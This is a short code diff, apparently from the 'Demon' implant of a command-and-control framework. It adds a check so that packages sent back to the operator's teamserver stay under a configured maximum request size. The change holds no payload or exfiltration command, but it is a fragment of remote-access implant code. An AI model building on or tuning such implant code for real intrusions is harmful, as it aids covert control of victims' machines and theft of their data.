@@ -366,9 +366,13 @@ BOOL PackageTransmitAll(
         Pkg->Included = TRUE;
 
         // make sure we don't send a package larger than DEMON_MAX_REQUEST_LENGTH
+        // or the size the teamserver asked us to stay below
         if ( Package->Length > DEMON_MAX_REQUEST_LENGTH )
             break;
 
+        if ( Instance->Config.Transport.MaxRequest && Package->Length > Instance->Config.Transport.MaxRequest )
+            break;
+
         Prev = Pkg;
         Pkg  = Pkg->Next;
     }